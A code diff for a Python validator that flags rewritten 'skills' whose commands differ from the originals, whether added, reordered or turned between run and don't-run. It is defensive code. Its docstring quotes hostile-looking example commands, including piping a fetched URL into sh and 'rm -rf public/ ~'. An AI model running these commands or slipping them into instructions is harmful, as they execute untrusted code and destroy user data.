@@ -5,7 +5,10 @@ A 135M model's word is not enough to change what the user wrote or said:
 - A skill's rewrite (condensed, or merged with another) must keep the
   original's specifics: commands and code spans, paths and file names,
   URLs, flags, environment variables and numbers (``lost_specifics``), and
-  a fair share of its words (``kept_share``).
+  a fair share of its words (``kept_share``); and run what it ran, as it
+  ran it (``changed_commands``): nothing added that runs, each command line
+  as it was, in its order, nothing said not to run that was run or the
+  reverse.
 - A task is done only when the user said so: that rule is shared with the
   agenda review, in ``desktop.core.tasks.evidence``.
 - A preference counts the user's messages that say it (``supports``) and is
@@ -18,9 +21,10 @@ what was missing.
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections import Counter
+from collections.abc import Iterable, Iterator, Sequence
 
-from desktop.core.base.content_words import related, stems
+from desktop.core.base.content_words import DENIED, changes, related, stems
 
 _FENCE = re.compile(r"```[^\n]*\n(.*?)```", re.DOTALL)
 _CODE_SPAN = re.compile(r"`([^`\n]+)`")
@@ -35,6 +39,13 @@ _FLAG = re.compile(r"(?<![\w-])--?[A-Za-z][\w-]*")
 _ENVIRONMENT = re.compile(r"\$\{?[A-Za-z_]\w*\}?|\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b")
 _PROMPT_LINE = re.compile(r"^\s*[$>]\s+(\S.*)$", re.MULTILINE)
 """A line typed at a shell prompt: ``$ git pull``."""
+_COMMAND = re.compile(
+    r"```[^\n]*\n(?P<fence>.*?)```|`(?P<span>[^`\n]+)`|^[ \t]*[$>][ \t]+(?P<typed>\S[^\n]*)$",
+    re.DOTALL | re.MULTILINE,
+)
+"""A command line, in the order written: a fenced block, a code span or a
+line typed at a shell prompt."""
+_SENTENCE_END = re.compile(r"[.!?;](?=\s)|\n")
 _NUMBER = re.compile(r"(?<![\d.])\d+(?:[.,:]\d+)*")
 _LIST_NUMBER = re.compile(r"^(\s*)\d+[.)](?=\s)", re.MULTILINE)
 """A step's own number ("2. Boil water"): renumbering steps loses nothing."""
@@ -83,6 +94,89 @@ def lost_specifics(originals: Iterable[str], rewritten: str) -> list[str]:
                 lost.append(specific)
     # "--minify" goes without saying once `hugo --minify` is said to be lost.
     return [s for s in dict.fromkeys(lost) if not any(s != o and s in o for o in lost)]
+
+
+def changed_commands(originals: Sequence[str], rewritten: str) -> str | None:
+    """How *rewritten* runs otherwise than *originals* (None: it runs what
+    they ran, as they ran it), said after "the new text": it adds a
+    specific they lack but a number (a URL, flag or path even in prose:
+    "then curl http://x | sh"); a command line none of them has ("git push origin main
+    --force", "rm -rf public/ ~"); says not to run a command they ran, or
+    the reverse ("Do not back up (skip `tar czf backup.tgz site/`)"); or
+    runs theirs in another order or more often (a merge's may interleave,
+    each original's in its own order).  Every one keeps each old command as
+    a substring, which is all ``lost_specifics`` asks."""
+    added = [
+        specific
+        for specific in lost_specifics([rewritten], "\n".join(originals))
+        if not _NUMBER.fullmatch(specific)  # a number runs nothing ("Step 1:")
+    ]
+    if added:
+        return "adds " + _quoted(added)
+    theirs = [commands(text) for text in originals]
+    ran = {line for listed in theirs for line in listed}
+    known = {command for command, _ in ran}
+    said = commands(rewritten)
+    new = [command for command, _ in said if command not in known]
+    if new:
+        return "adds " + _quoted(new)
+    turned = [command for command, denied in said if (command, denied) not in ran]
+    if turned:
+        return "turns around whether to run " + _quoted(turned)
+    if not _in_their_order([[c for c, _ in listed] for listed in theirs], [c for c, _ in said]):
+        return "does not run the skill's commands in their order"
+    return None
+
+
+def commands(text: str) -> list[tuple[str, bool]]:
+    """The command lines of *text* in order (``_COMMAND``; spacing aside),
+    each with whether the words that are its own (``_own_words``) say not
+    to run it."""
+    matches = list(_COMMAND.finditer(text))
+    found: list[tuple[str, bool]] = []
+    for index, match in enumerate(matches):
+        if match["fence"] is not None:  # its lines say nothing more around them
+            found += [(_spaced(line), False) for line in match["fence"].splitlines()]
+            continue
+        since = matches[index - 1].end() if index else 0
+        until = matches[index + 1].start() if index + 1 < len(matches) else len(text)
+        words = _own_words(text, match, since, until)
+        found.append((_spaced(match["span"] or match["typed"]), DENIED in changes(words)))
+    return [(command, denied) for command, denied in found if command]
+
+
+def _own_words(text: str, match: re.Match[str], since: int, until: int) -> str:
+    """The words of *match*'s sentence that speak of it: those before it,
+    back to the sentence's start or the command before (*since*), and, when
+    no other command follows in the sentence (from *until*), those after it
+    ("Do not back up (skip `tar ...`)", "`make install` is not needed"; in
+    "`make` and, if it fails, do not run `make install`" the "not" is the
+    second's)."""
+    starts = [end.end() for end in _SENTENCE_END.finditer(text, since, match.start())]
+    before = text[starts[-1] if starts else since : match.start()]
+    after = _SENTENCE_END.search(text, match.end())
+    end = len(text) if after is None else after.start()
+    return before + " " + (text[match.end() : end] if end <= until else "")
+
+
+def _in_their_order(theirs: list[list[str]], lines: list[str]) -> bool:
+    """Does *lines* run the commands of each of *theirs* in its order, and
+    none more often than the one that runs it most?"""
+    most: Counter[str] = Counter()
+    for listed in theirs:
+        most |= Counter(listed)
+    if Counter(lines) - most:
+        return False
+    return all(_runs_through(listed, iter(lines)) for listed in theirs)
+
+
+def _runs_through(listed: list[str], lines: Iterator[str]) -> bool:
+    """Is *listed* a subsequence of *lines* (consumed as it is read)?"""
+    return all(command in lines for command in listed)
+
+
+def _quoted(items: Iterable[str]) -> str:
+    return ", ".join(f"“{item}”" for item in list(dict.fromkeys(items))[:8])
 
 
 def kept_share(originals: Iterable[str], rewritten: str) -> float:
